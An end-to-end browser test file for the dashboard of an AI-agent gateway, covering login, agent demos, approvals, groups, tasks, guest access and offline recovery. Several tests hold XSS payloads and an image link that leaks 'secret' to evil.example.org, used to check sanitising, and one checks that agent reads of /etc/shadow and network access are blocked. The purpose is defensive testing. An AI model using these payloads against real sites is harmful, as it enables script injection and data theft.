// The dashboard of the real executable, in a real browser. The tests build on one another: one home, one evening.

import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { CATALOGUE } from "../../dashboard/i18n.js";
import { browser, gateway, logIn, page, shot } from "./harness.js";

/** Longest that an answer of the demonstration may take, in milliseconds. */
const ANSWER_MS = 60_000;

/** The reminder comes after a minute. */
const REMINDER_MS = 100_000;

let it;
let chrome;
let tab;

before(async () => {
  it = await gateway();
  chrome = await browser();
  tab = await page(chrome, it.origin, { colorScheme: "light" });
});
after(async () => {
  await chrome?.close();
  await it?.end();
});

const composer = () => tab.getByRole("textbox", { name: "Message" });
const answers = () => tab.locator(".message.assistant:not(.live)");

/** Waits until there are `n` answers and nothing works any more. */
async function settled(n) {
  await answers().nth(n - 1).waitFor({ timeout: ANSWER_MS });
  await tab.locator("[data-live]").waitFor({ state: "detached", timeout: ANSWER_MS });
}

test("both languages say the same things", () => {
  assert.deepEqual(Object.keys(CATALOGUE.zh), Object.keys(CATALOGUE.en));
  for (const [key, text] of Object.entries(CATALOGUE.en)) {
    const holes = (it) => [...it.matchAll(/\{\d\}/g)].map((hole) => hole[0]).sort();
    assert.deepEqual(holes(CATALOGUE.zh[key]), holes(text), key);
  }
});

test("the link logs in, once, and leaves no code behind", async () => {
  await logIn(tab, it.link);
  assert.ok(!tab.url().includes("login="), tab.url());
  await tab.locator("[data-banner=demo]").waitFor();
  await shot(tab, "01-empty-light");
  const late = await page(chrome, it.origin);
  await late.goto(it.link);
  await late.locator(".login .problem").waitFor();
  await shot(late, "02-login");
  await late.context().close();
});

test("a file is written and read, with its tools shown", async () => {
  await tab.locator("[data-demo=demo_file]").click();
  await settled(1);
  assert.ok((await tab.locator(".tool.ok").count()) >= 2);
  await answers().filter({ hasText: "Written by the demonstration agent at " }).waitFor();
  await shot(tab, "03-file");
});

test("a reminder is promised", async () => {
  await tab.locator("[data-demo=demo_remind]").click();
  await settled(2);
  await answers().filter({ hasText: "A reminder comes in a minute." }).waitFor();
});

test("an approval is asked for and given", async () => {
  await tab.locator("[data-demo=demo_ask]").click();
  const ask = tab.locator("[data-ask]");
  await ask.waitFor({ timeout: ANSWER_MS });
  await shot(tab, "04-ask");
  await ask.getByRole("button").first().click();
  await ask.waitFor({ state: "detached", timeout: ANSWER_MS });
  await settled(3);
  await answers().filter({ hasText: "The answer was: Yes" }).waitFor();
});

test("a long answer streams, and stops", async () => {
  await tab.locator("[data-demo=demo_long]").click();
  const live = tab.locator("[data-live] .markdown");
  await live.waitFor({ timeout: ANSWER_MS });
  const early = (await live.textContent()).length;
  await tab.waitForFunction((n) => n < (document.querySelector("[data-live] .markdown")?.textContent.length ?? 0), early);
  await shot(tab, "05-streaming");
  await tab.getByRole("button", { name: "Stop", exact: true }).click();
  await tab.locator("[data-live]").waitFor({ state: "detached", timeout: ANSWER_MS });
});

test("the walls are shown", async () => {
  await tab.locator("[data-demo=demo_walls]").click();
  const shown = answers().filter({ hasText: "/etc/shadow" });
  await shown.waitFor({ timeout: ANSWER_MS });
  const words = await shown.textContent();
  // Only refusals, each the system's own word; of network devices there is the loopback and no other.
  for (const wall of ["read /etc/shadow: No such file", "list /root: No such file", "1.1.1.1:443: Network is unreachable", "network devices: lo\n"])
    assert.ok(words.includes(wall), `no "${wall}" in ${words}`);
  // What was said last is in sight.
  await tab.waitForFunction(() => {
    const last = [...document.querySelectorAll(".message.assistant")].at(-1).getBoundingClientRect();
    const box = document.querySelector(".scroll").getBoundingClientRect();
    return box.top < last.bottom && last.bottom <= box.bottom;
  });
  await shot(tab, "06-walls");
});

test("why a message was answered, by keyboard", async () => {
  const why = tab.locator("[data-why]").first();
  await why.focus();
  await tab.keyboard.press("Enter");
  await tab.locator("[data-why-shown] .steps li").first().waitFor();
  await shot(tab, "07-why");
  await tab.keyboard.press("Escape");
  await tab.locator("[data-why-shown]").waitFor({ state: "detached" });
  assert.ok(await why.evaluate((button) => button === document.activeElement), "the focus comes back");
});

test("a message is written without a mouse", async () => {
  await tab.reload();
  await composer().waitFor();
  for (let n = 0; n < 40; n += 1) {
    if (await composer().evaluate((area) => area === document.activeElement)) break;
    await tab.keyboard.press("Tab");
  }
  await tab.keyboard.type("echo first");
  await tab.keyboard.press("Shift+Enter");
  await tab.keyboard.type("second");
  assert.equal(await composer().inputValue(), "echo first\nsecond");
  await tab.keyboard.press("Enter");
  await tab.waitForFunction(() => document.activeElement.value === "");
  await answers().filter({ hasText: /first\s*second/ }).first().waitFor({ timeout: ANSWER_MS });
});

test("the reminder comes", async () => {
  const promised = tab.locator(".message:not(.user)").filter({ hasText: "Here is the reminder" });
  await promised.first().waitFor({ timeout: REMINDER_MS });
});

test("hostile Markdown does nothing", async () => {
  const table = [
    ["<script>alert(1)</script>ok", "ok"],
    ['<img src=x onerror="alert(1)">', ""],
    ["![x](https://evil.example.org/?q=secret)", ""],
    ["[x](javascript:alert(1))", "x"],
    ['<a href="data:text/html,x" onclick="alert(1)" style="position:fixed">x</a>', "x"],
    ["<iframe src=//evil.example.org></iframe><form><button>b</button></form>", "b"],
  ];
  for (const [text, want] of table) {
    const got = await tab.evaluate(async (text) => {
      const { render } = await import("/markdown.js");
      const box = document.createElement("div");
      box.innerHTML = render(text);
      const bad = box.querySelectorAll("script,img,iframe,form,button,[style],[onclick],[onerror],a[href^='javascript'],a[href^='data']");
      return { text: box.textContent.trim(), bad: bad.length };
    }, text);
    assert.deepEqual(got, { text: want, bad: 0 }, text);
  }
  const link = await tab.evaluate(async () => (await import("/markdown.js")).render("[x](https://example.org)"));
  assert.match(link, /rel="noopener noreferrer"/);
  // What a browser says about the handlers that were never run.
  tab.complaints = tab.complaints.filter((text) => !/inline (event handler|style)/.test(text));
});

test("events resume where they stopped", async () => {
  const frames = await tab.evaluate(async () => {
    const live = await (await fetch("/api/live")).json();
    const body = JSON.stringify({ group: "main", content: "echo four", wait_seconds: 60 });
    await fetch("/api/messages", { method: "POST", headers: { "content-type": "application/json" }, body });
    const open = (resume) =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${location.origin.replace("http", "ws")}/ws`);
        socket.onerror = reject;
        socket.onopen = () => socket.send(JSON.stringify({ resume }));
        socket.onmessage = ({ data }) => {
          resolve(JSON.parse(data));
          socket.close();
        };
      });
    const from = { instance: live.instance, number: live.number };
    return { from, next: await open(from), stranger: await open({ instance: 1, number: 1 }) };
  });
  assert.equal(frames.next.events[0].number, frames.from.number + 1);
  const types = frames.next.events.map((event) => event.type);
  for (const type of ["message", "run_started", "run_finished"]) assert.ok(types.includes(type), types.join());
  assert.equal(frames.stranger.reset, true);
});

test("groups are made, changed and removed", async () => {
  await tab.getByRole("link", { name: "Groups" }).click();
  await tab.getByRole("button", { name: "New group" }).click();
  await tab.getByLabel("Name", { exact: true }).fill("Book club");
  await shot(tab, "08-new-group");
  await tab.getByRole("button", { name: "Create" }).click();
  const card = tab.locator(".group").filter({ hasText: "book-club" });
  await card.waitFor();
  await card.getByRole("button", { name: "Bind a chat" }).click();
  await tab.getByLabel("Address").fill("telegram@main:-100123");
  await shot(tab, "09-bind");
  await tab.getByRole("dialog").getByRole("button", { name: "Bind a chat" }).click();
  await card.getByText("telegram@main:-100123").waitFor();
  await card.getByRole("button", { name: "Change limits" }).click();
  await tab.getByLabel("Processes").fill("64");
  await tab.getByRole("button", { name: "Save" }).click();
  await card.getByText("Limits").click();
  await card.locator("dd", { hasText: /^64$/ }).waitFor();

  // A variable, and a folder of this machine that the list lets in.
  await card.getByRole("button", { name: "Change limits" }).click();
  await tab.getByLabel("Environment of its agents").fill("GITHUB_TOKEN=x");
  await tab.getByRole("button", { name: "Save" }).click();
  await tab.locator(".toast", { hasText: "looks like a credential" }).waitFor();
  await tab.getByLabel("Environment of its agents").fill("LANG=de_DE.UTF-8");
  await tab.getByRole("button", { name: "Save" }).click();
  await tab.getByRole("dialog").waitFor({ state: "detached" });
  await card.getByText("Folders of this machine").click();
  await card.getByRole("button", { name: "Mount a folder" }).click();
  await tab.getByLabel("Folder or file on this machine").fill("/usr/share/doc");
  await tab.getByRole("dialog").getByRole("button", { name: "Mount a folder" }).click();
  await tab.locator(".toast", { hasText: "is in no folder that may be mounted" }).waitFor();
  await writeFile(join(it.home, "mount-allowlist.toml"), '[[roots]]\npath = "/usr/share"\n');
  await tab.getByRole("dialog").getByRole("button", { name: "Mount a folder" }).click();
  await card.getByText("/workspace/extra/doc").waitFor();
  await shot(tab, "10-mounts");
  await card.locator("[data-mounts]").getByRole("button", { name: "Remove" }).click();
  await card.getByText("the agent sees its own folders only").waitFor();
  await card.getByRole("button", { name: "Pause" }).click();
  await card.getByText("paused").waitFor();
  await shot(tab, "10-groups");
  await card.getByRole("button", { name: "Resume" }).click();
  await card.getByRole("button", { name: "Pause" }).waitFor();
  await card.getByRole("button", { name: "Unbind" }).click();
  await card.getByText("telegram@main:-100123").waitFor({ state: "detached" });
  await card.getByRole("button", { name: "Remove" }).click();
  await tab.getByRole("button", { name: "Remove the group" }).click();
  await card.waitFor({ state: "detached" });
});

test("a task is made, shown before it fires, run, paused and cancelled", async () => {
  await tab.getByRole("link", { name: "Tasks" }).click();
  await tab.getByText("Nothing is scheduled.").waitFor();
  await tab.getByRole("button", { name: "New task" }).click();
  const dialog = tab.getByRole("dialog");
  await dialog.getByLabel("What is to be done").fill("Water the plants");
  await dialog.getByLabel(/^How/).selectOption("say");
  await dialog.getByLabel("Cron expression").fill("61 * * * *");
  await dialog.locator(".problem").waitFor();
  await dialog.getByLabel("Cron expression").fill("0 9 * * MON");
  await dialog.getByLabel("Time zone").fill("Europe/Berlin");
  await dialog.getByText("It would fire:").waitFor();
  await dialog.locator(".preview li", { hasText: "09:00:00 CE" }).first().waitFor();
  await shot(tab, "17-new-task");
  await dialog.getByRole("button", { name: "Save" }).click();
  const card = tab.locator(".task").filter({ hasText: "Water the plants" });
  await card.getByText("cron 0 9 * * MON (Europe/Berlin)").waitFor();
  await card.getByRole("button", { name: "Run now" }).click();
  const id = await card.getAttribute("data-task");
  await tab.waitForFunction(async (id) => {
    const [fire] = await (await fetch(`/api/tasks/${id}/logs`)).json();
    return fire?.delivery.sent === 1;
  }, id);
  await card.getByText("History").click();
  await card.getByRole("cell", { name: "1 of 1 sent" }).waitFor();
  await card.getByRole("button", { name: "Pause" }).click();
  await card.getByText("paused").waitFor();
  await shot(tab, "18-tasks");
  await card.getByRole("button", { name: "Resume" }).click();
  await card.getByRole("button", { name: "Change: Water the plants" }).click();
  await dialog.getByLabel(/^When/).selectOption("interval");
  await dialog.getByRole("button", { name: "Save" }).click();
  await card.getByText("every 1h").waitFor();
  await card.getByRole("button", { name: "Cancel the task: Water the plants" }).click();
  await dialog.getByRole("button", { name: "Cancel the task" }).click();
  await card.waitFor({ state: "detached" });
});

test("a guest is invited, sees their group only, and stops what is theirs only", async () => {
  const ask = (path, body) =>
    tab.evaluate(async ([path, body]) => {
      const response = await fetch(path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
      return response.json();
    }, [path, body]);
  await ask("/api/groups", { name: "Chess club" });
  await tab.getByRole("link", { name: "People" }).click();
  await tab.getByRole("button", { name: "Invite" }).click();
  await tab.getByLabel("Name", { exact: true }).fill('Gil <img src=x onerror="alert(1)">');
  await tab.getByRole("dialog").getByRole("combobox").selectOption("guest");
  await tab.getByLabel("Chess club").check();
  await shot(tab, "20-invite");
  await tab.getByRole("button", { name: "Make the link" }).click();
  const link = await tab.locator("[data-link]").textContent();
  await shot(tab, "21-link");
  await tab.getByRole("dialog").locator("footer").getByRole("button", { name: "Close" }).click();
  await tab.locator("[data-person]").filter({ hasText: "Gil <img" }).filter({ hasText: "Chess club: guest" }).waitFor();
  await shot(tab, "22-people");

  const guest = await page(chrome, it.origin);
  await logIn(guest, link);
  assert.deepEqual(await guest.locator("nav .nav span").allTextContents(), ["Home", "Chat", "Messages", "Groups", "Tasks", "Usage", "State"]);
  assert.deepEqual(await guest.locator(".chat-name").allTextContents(), ["Chess club"]);
  const stop = guest.getByRole("button", { name: "Stop", exact: true });
  await ask("/api/messages", { group: "chess-club", content: "A long answer to stop", wait: false });
  await guest.locator("[data-live]").waitFor({ timeout: ANSWER_MS });
  assert.equal(await stop.count(), 0, "it is somebody else's");
  await shot(guest, "23-guest");
  const lane = await tab.evaluate(async () => (await (await fetch("/api/live")).json()).runs[0].lane);
  await ask(`/api/lanes/${lane}/stop`, {});
  await guest.locator("[data-live]").waitFor({ state: "detached", timeout: ANSWER_MS });
  await guest.getByRole("textbox", { name: "Message" }).fill("A long answer to stop");
  await guest.keyboard.press("Enter");
  await stop.click({ timeout: ANSWER_MS });
  await guest.locator("[data-live]").waitFor({ state: "detached", timeout: ANSWER_MS });
  await guest.getByRole("link", { name: "State" }).click();
  await guest.locator(".page .card").first().waitFor();
  assert.deepEqual(guest.complaints, []);

  await tab.getByRole("button", { name: /^Remove: Gil/ }).click();
  await tab.getByRole("dialog").getByRole("button", { name: "Remove" }).click();
  await guest.reload();
  await guest.locator(".login").waitFor();
  await guest.context().close();
});

test("a thread is a conversation of its own", async () => {
  await tab.evaluate(async () => {
    const body = JSON.stringify({ group: "main", thread: "trip", content: "echo by train", wait_seconds: 60 });
    await fetch("/api/messages", { method: "POST", headers: { "content-type": "application/json" }, body });
  });
  await tab.goto(`${it.origin}/#/chat`);
  const picker = tab.getByRole("combobox", { name: "Conversation" });
  await picker.waitFor();
  assert.equal(await tab.locator(".message").filter({ hasText: "by train" }).count(), 0);
  await picker.selectOption("trip");
  await answers().filter({ hasText: "by train" }).waitFor();
  assert.equal(await tab.locator(".message").count(), 2);
  await composer().fill("echo by boat");
  await composer().press("Enter");
  await answers().filter({ hasText: "by boat" }).waitFor({ timeout: ANSWER_MS });
  await shot(tab, "24-thread");
  await picker.selectOption("");
  await answers().first().waitFor();
  assert.equal(await tab.locator(".message").filter({ hasText: "by boat" }).count(), 0);
});

test("every message has its line and its why", async () => {
  await tab.getByRole("link", { name: "Messages" }).click();
  const row = tab.locator("[data-row]").filter({ hasText: "by boat" });
  await row.first().waitFor();
  const ids = await tab.locator("[data-row]").evaluateAll((rows) => rows.map((row) => Number(row.dataset.row)));
  assert.deepEqual(ids, [...ids].sort((a, b) => b - a), "the latest first, each once");
  await shot(tab, "25-messages");
  await row.last().getByRole("button").click();
  await tab.locator("[data-why-shown] .steps li").first().waitFor();
  await tab.keyboard.press("Escape");
  await tab.getByRole("combobox", { name: "Groups" }).selectOption("Chess club");
  await row.first().waitFor({ state: "detached" });
  await tab.locator("[data-row]").filter({ hasText: "A long answer to stop" }).first().waitFor();
});

test("the other pages", async () => {
  await tab.getByRole("link", { name: "Approvals" }).click();
  await tab.getByText("Nobody waits.").waitFor();
  await shot(tab, "11-approvals");
  await tab.getByRole("link", { name: "Logs" }).click();
  const lines = tab.locator(".log-line");
  await lines.filter({ hasText: "INFO" }).first().waitFor();
  await tab.locator("select[name=level]").selectOption("debug");
  await tab.locator("select[name=least]").selectOption("error");
  await lines.filter({ hasText: "INFO" }).first().waitFor({ state: "detached" });
  await tab.locator("select[name=least]").selectOption("trace");
  await shot(tab, "15-logs");
  await tab.locator("select[name=level]").selectOption("info");
  await tab.getByRole("link", { name: "State" }).click();
  await tab.getByRole("heading", { name: "Queue" }).waitFor();
  await shot(tab, "12-state");
});

test("a phone: nothing sticks out, in either theme", async () => {
  await tab.setViewportSize({ width: 390, height: 844 });
  for (const name of ["home", "chat", "messages", "groups", "channels", "approvals", "people", "usage", "logs", "state"]) {
    await tab.goto(`${it.origin}/#/${name}`);
    await tab.locator(name === "chat" ? ".chat" : ".page").waitFor();
    const wide = await tab.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(wide <= 390, `${name}: ${wide}`);
    for (const colorScheme of ["light", "dark"]) {
      await tab.emulateMedia({ colorScheme });
      await shot(tab, `13-phone-${name}-${colorScheme}`);
    }
  }
  await tab.getByRole("button", { name: "Menu" }).click();
  await tab.locator(".side.open").waitFor();
  await tab.getByRole("link", { name: "Chat", exact: true }).waitFor();
  await tab.locator(".side").evaluate((side) => Promise.all(side.getAnimations().map((it) => it.finished)));
  await shot(tab, "14-phone-menu");
  await tab.keyboard.press("Escape");
  await tab.locator(".side.open").waitFor({ state: "detached" });
  await tab.setViewportSize({ width: 1280, height: 800 });
});

test("the theme and the language are chosen and kept", async () => {
  await tab.goto(`${it.origin}/#/chat`);
  await tab.emulateMedia({ colorScheme: "light" });
  const colour = () => tab.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const light = await colour();
  await tab.getByRole("button", { name: "Theme: as the system" }).click();
  assert.equal(await colour(), light);
  await tab.getByRole("button", { name: "Theme: light" }).click();
  assert.notEqual(await colour(), light);
  await tab.getByRole("button", { name: "中文" }).click();
  await tab.reload();
  await tab.getByRole("link", { name: "审批" }).waitFor();
  assert.notEqual(await colour(), light);
  await shot(tab, "15-chinese-dark");
  await tab.getByRole("button", { name: "English" }).click();
  await tab.getByRole("button", { name: "Theme: dark" }).click();
});

test("a message that was written while the gateway was dead arrives once", async () => {
  await tab.goto(`${it.origin}/#/chat`);
  await composer().waitFor();
  await it.kill("SIGKILL");
  await tab.locator("[data-banner=offline]").waitFor();
  await composer().fill("echo after the storm");
  await composer().press("Enter");
  await tab.locator(".unsent").filter({ hasText: "after the storm" }).waitFor();
  await shot(tab, "16-offline");
  await it.start();
  await tab.locator(".message.user:not(.unsent)").filter({ hasText: "after the storm" }).waitFor({ timeout: ANSWER_MS });
  await answers().filter({ hasText: "after the storm" }).first().waitFor({ timeout: ANSWER_MS });
  await tab.reload();
  await tab.locator("[data-message]").first().waitFor();
  assert.equal(await tab.locator(".message.user").filter({ hasText: "after the storm" }).count(), 1);
});

test("the page complained about nothing and asked nobody else", () => {
  assert.deepEqual(tab.complaints, []);
});
